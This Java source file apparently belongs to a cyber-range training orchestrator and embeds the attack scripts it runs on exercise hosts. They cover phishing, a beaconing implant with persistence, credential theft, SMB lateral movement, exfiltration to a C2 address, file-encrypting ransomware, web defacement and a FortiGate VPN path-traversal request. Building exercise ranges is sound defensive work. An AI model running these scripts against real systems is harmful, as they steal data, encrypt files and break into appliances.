package dev.enshu.orchestrator.timeline;

/**
 * The shell programs the attack actions run on range hosts. Parameters arrive as environment
 * variables, never spliced into the text, so nothing a scenario says can change a script. Each is a
 * benign simulation confined to the range: it leaves the files, processes and log lines a real
 * attack would, and nothing else.
 */
final class ActionScripts {
  private ActionScripts() {}

  /** Sends a mail with a harmless zip attachment through the range's mail path. */
  static final String PHISHING_MAIL =
      """
      set -e
      dir=$(mktemp -d)
      printf 'Enshu exercise: a harmless stand-in for a malicious document.\\n' > "$dir/document.txt"
      python3 -c 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], "w"); z.write(sys.argv[2], "請求書.exe.txt"); z.close()' "$dir/a.zip" "$dir/document.txt"
      args=(--server "$SERVER" --from "$SENDER" --to "$RECIPIENT" --header "Subject: $SUBJECT" \\
            --header 'Content-Type: text/plain; charset=UTF-8' --body "$BODY" --silent 2)
      if [ -n "$ATTACHMENT" ]; then
        args+=(--attach-type application/zip --attach-name "$ATTACHMENT" --attach "@$dir/a.zip")
      fi
      swaks "${args[@]}"
      sha256sum "$dir/a.zip" | cut -d' ' -f1
      rm -rf "$dir"
      """;

  /**
   * Drops a beaconing program at a path, with an autostart entry, and starts it as the host's user.
   */
  static final String IMPLANT =
      """
      set -e
      owner="${OWNER:-root}"
      mkdir -p "$(dirname "$IMPLANT_PATH")"
      cat > "$IMPLANT_PATH" <<'PROGRAM'
      #!/bin/bash
      # (Enshu exercise) a simulated implant: it beacons to its C2 over HTTP through the proxy.
      while true; do
        curl -s -o /dev/null -m 10 ${PROXY:+-x "$PROXY"} -A "$UA" "http://$C2/beacon?id=$ID" || true
        sleep "$INTERVAL"
      done
      PROGRAM
      chmod 755 "$IMPLANT_PATH"
      chown "$owner:" "$IMPLANT_PATH" 2>/dev/null || true
      home=$(getent passwd "$owner" | cut -d: -f6)
      if [ -n "$home" ]; then
        mkdir -p "$home/.config/autostart"
        printf '[Desktop Entry]\\nType=Application\\nName=%s\\nExec=%s\\n' "$PROCESS" "$IMPLANT_PATH" > "$home/.config/autostart/$PROCESS.desktop"
        chown -R "$owner:" "$home/.config" 2>/dev/null || true
      fi
      runner="$(dirname "$IMPLANT_PATH")/$PROCESS"
      [ "$runner" = "$IMPLANT_PATH" ] || ln -sf "$IMPLANT_PATH" "$runner"
      runuser -u "$owner" -- env PROXY="$PROXY" UA="$UA" C2="$C2" ID="$ID" INTERVAL="$INTERVAL" setsid "$runner" </dev/null >/dev/null 2>&1 &
      sleep 1
      pgrep -x "$PROCESS" >/dev/null
      sha256sum "$IMPLANT_PATH" | cut -d' ' -f1
      """;

  /** Runs discovery commands as the host's user, as an attacker at its keyboard would. */
  static final String DISCOVERY =
      """
      owner="${OWNER:-root}"
      home=$(getent passwd "$owner" | cut -d: -f6)
      while IFS= read -r command; do
        [ -n "$command" ] || continue
        runuser -u "$owner" -- bash -c "$command" >> /tmp/.enshu-d.$$ 2>&1 || true
        [ -n "$home" ] && printf '%s\\n' "$command" >> "$home/.bash_history"
      done <<< "$COMMANDS"
      logger -t bash -p user.info "user=$owner commands=$(printf '%s' "$COMMANDS" | tr '\\n' ';')"
      wc -l < /tmp/.enshu-d.$$; rm -f /tmp/.enshu-d.$$
      """;

  /** Plants an administrator's memo with the password, then reads it and sends it to the C2. */
  static final String CREDENTIAL_THEFT =
      """
      set -e
      owner="${OWNER:-root}"
      mkdir -p "$(dirname "$SOURCE")"
      printf 'サーバ管理メモ（持ち出し禁止）\\nドメイン管理者: %s\\nパスワード: %s\\n' "$ACCOUNT" "$PASSWORD" > "$SOURCE"
      chown "$owner:" "$SOURCE" 2>/dev/null || true
      touch -d '-40 days' "$SOURCE"
      home=$(getent passwd "$owner" | cut -d: -f6)
      stash="${home:-/tmp}/.cache/.c"
      mkdir -p "$(dirname "$stash")"
      printf '%s%%%s\\n' "$ACCOUNT" "$PASSWORD" > "$stash"
      chown "$owner:" "$stash" 2>/dev/null || true
      if [ -n "$C2" ]; then
        curl -s -o /dev/null -m 10 ${PROXY:+-x "$PROXY"} --data-binary @"$SOURCE" "http://$C2/upload?name=memo.txt" || true
      fi
      echo stolen
      """;

  /**
   * Logs on to another host's share with a stolen account (SMB), or leaves the trace of an SSH
   * log-on.
   */
  static final String LATERAL_SMB =
      """
      set -e
      smbclient "//$TARGET/$SHARE" -U "$ACCOUNT%$PASSWORD" -c 'ls' > /dev/null
      echo "logged on to //$TARGET/$SHARE as $ACCOUNT"
      """;

  static final String LATERAL_SSH_TRACE =
      """
      logger -t sshd -p auth.info "Accepted password for $ACCOUNT from $FROM_ADDRESS port $((40000 + RANDOM % 20000)) ssh2"
      echo "ssh log-on of $ACCOUNT from $FROM_ADDRESS recorded"
      """;

  /** Copies a share with the stolen account, packs it and sends it to the C2 through the proxy. */
  static final String EXFILTRATION =
      """
      set -e
      owner="${OWNER:-root}"
      home=$(getent passwd "$owner" | cut -d: -f6)
      stage=$(mktemp -d /tmp/.s.XXXXXX)
      cred=$(cat "${home:-/tmp}/.cache/.c" 2>/dev/null || true)
      if [[ "$SOURCE" == //* ]]; then
        if [ -n "$cred" ]; then auth=(-U "$cred"); else auth=(-N); fi
        (cd "$stage" && smbclient "$SOURCE" "${auth[@]}" -c 'prompt OFF; recurse ON; mget *' > /dev/null 2>&1) || true
      else
        cp -r "$SOURCE" "$stage/" 2>/dev/null || true
      fi
      archive="/tmp/.enshu-$(date +%s).tgz"
      tar czf "$archive" -C "$stage" .
      curl -s -o /dev/null -m 60 ${PROXY:+-x "$PROXY"} --data-binary @"$archive" "http://$C2/upload?name=$NAME"
      echo "$(find "$stage" -type f | wc -l) files, $(stat -c %s "$archive") bytes"
      rm -rf "$stage" "$archive"
      """;

  /**
   * Encrypts (or, with MODE=decrypt, restores) every file under a folder with a key stream from the
   * key, renames it with the extension and leaves a note in each folder. Reversible by design.
   */
  static final String RANSOMWARE =
      """
      python3 - <<'PY'
      import hashlib, os
      key, root, ext, note, mode = (os.environ[k] for k in ("KEY", "FOLDER", "EXTENSION", "NOTE", "MODE"))
      def stream(data):
          out = bytearray()
          for block in range(0, len(data), 32):
              pad = hashlib.sha256(f"{key}:{block // 32}".encode()).digest()
              out += bytes(a ^ b for a, b in zip(data[block:block + 32], pad))
          return bytes(out)
      count = 0
      for folder, _, files in os.walk(root):
          for name in files:
              path = os.path.join(folder, name)
              if name == "README_RESTORE_FILES.txt":
                  if mode == "decrypt":
                      os.remove(path)
                  continue
              if mode == "encrypt" and not name.endswith(ext):
                  with open(path, "rb") as f:
                      data = f.read()
                  with open(path + ext, "wb") as f:
                      f.write(stream(data))
                  os.remove(path)
                  count += 1
              elif mode == "decrypt" and name.endswith(ext):
                  with open(path, "rb") as f:
                      data = f.read()
                  with open(path[: -len(ext)], "wb") as f:
                      f.write(stream(data))
                  os.remove(path)
                  count += 1
          if mode == "encrypt":
              with open(os.path.join(folder, "README_RESTORE_FILES.txt"), "w") as f:
                  f.write(note)
      print(count)
      PY
      """;

  /** Replaces the web site's front page, keeping the original for the restore. */
  static final String DEFACE =
      """
      set -e
      mkdir -p /var/backups/enshu
      [ -f /var/backups/enshu/index.html.orig ] || cp /var/www/html/index.html /var/backups/enshu/index.html.orig
      printf '<!doctype html><html><head><meta charset="utf-8"><title>hacked</title></head><body><h1>%s</h1></body></html>\\n' "$MESSAGE" > /var/www/html/index.html
      sha256sum /var/www/html/index.html | cut -d' ' -f1
      """;

  /**
   * Reads the appliance's session file through a path traversal, then logs on with what it leaked.
   */
  static final String VPN_EXPLOIT =
      """
      base="https://$VPN"
      curl -sk -o /dev/null -m 10 "$base/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession" || true
      code=$(curl -sk -o /dev/null -w '%{http_code}' -m 10 --data-urlencode "username=$ACCOUNT" --data-urlencode "credential=$PASSWORD" "$base/remote/logincheck")
      echo "login $ACCOUNT: $code"
      """;
}
